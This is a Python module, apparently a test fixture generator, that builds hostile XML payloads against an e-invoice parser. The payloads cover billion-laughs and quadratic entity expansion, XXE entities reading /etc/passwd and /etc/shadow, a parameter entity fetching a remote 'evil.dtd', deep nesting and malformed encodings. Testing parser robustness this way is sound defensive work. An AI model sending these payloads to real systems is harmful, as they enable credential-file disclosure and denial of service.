"""Hostile XML: entity expansion, external entities, deep nesting."""

from __future__ import annotations


def billion_laughs(tag: str) -> bytes:
    """Ten levels of ten references: 10^9 'lol's if expanded."""
    lines = ['<?xml version="1.0"?>', "<!DOCTYPE EInvoice [", '<!ENTITY lol0 "lol">']
    for i in range(1, 10):
        refs = "".join(f"&lol{i - 1};" for _ in range(10))
        lines.append(f'<!ENTITY lol{i} "{refs}">')
    lines.append("]>")
    lines.append(f"<EInvoice><Tag>{tag}</Tag><Note>&lol9;</Note></EInvoice>")
    return "\n".join(lines).encode()


def quadratic_blowup(tag: str) -> bytes:
    """One 50 KB entity referenced 5,000 times (no nesting needed)."""
    big = "A" * 50_000
    refs = "&a;" * 5000
    return (f'<?xml version="1.0"?>\n<!DOCTYPE EInvoice [<!ENTITY a "{big}">]>\n'
            f"<EInvoice><Tag>{tag}</Tag><Note>{refs}</Note></EInvoice>").encode()


def xxe_file(tag: str) -> bytes:
    """An external entity that would read /etc/passwd into a field."""
    return ('<?xml version="1.0"?>\n<!DOCTYPE EInvoice [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
            f"<EInvoice><Tag>{tag}</Tag><TaxSupervisionInfo><InvoiceNumber>&x;</InvoiceNumber>"
            "</TaxSupervisionInfo></EInvoice>").encode()


def xxe_parameter(tag: str) -> bytes:
    """A parameter entity fetching a remote DTD (out-of-band exfiltration)."""
    return ('<?xml version="1.0"?>\n<!DOCTYPE EInvoice [<!ENTITY % remote SYSTEM '
            '"http://127.0.0.1:9/evil.dtd"> %remote;]>\n'
            f"<EInvoice><Tag>{tag}</Tag></EInvoice>").encode()


def external_dtd(tag: str) -> bytes:
    """A DOCTYPE with an external subset."""
    return ('<?xml version="1.0"?>\n<!DOCTYPE EInvoice SYSTEM "file:///etc/shadow">\n'
            f"<EInvoice><Tag>{tag}</Tag></EInvoice>").encode()


def deep_nesting(tag: str, depth: int = 50_000) -> bytes:
    """Elements nested `depth` deep (recursion in a tree walker)."""
    return (f"<EInvoice><Tag>{tag}</Tag>" + "<a>" * depth + "</a>" * depth + "</EInvoice>").encode()


def utf16_lies(tag: str) -> bytes:
    """A UTF-16 BOM and prolog, then bytes that are not UTF-16 at all."""
    return b"\xff\xfe" + "<?xml ".encode("utf-16-le") + b"\xd8\x00\xd8\x00" + tag.encode()


def unclosed(tag: str) -> bytes:
    """An invoice XML cut short."""
    return (f'<?xml version="1.0" encoding="UTF-8"?><EInvoice><Tag>{tag}</Tag>'
            "<TaxSupervisionInfo><InvoiceNumber>2644").encode()
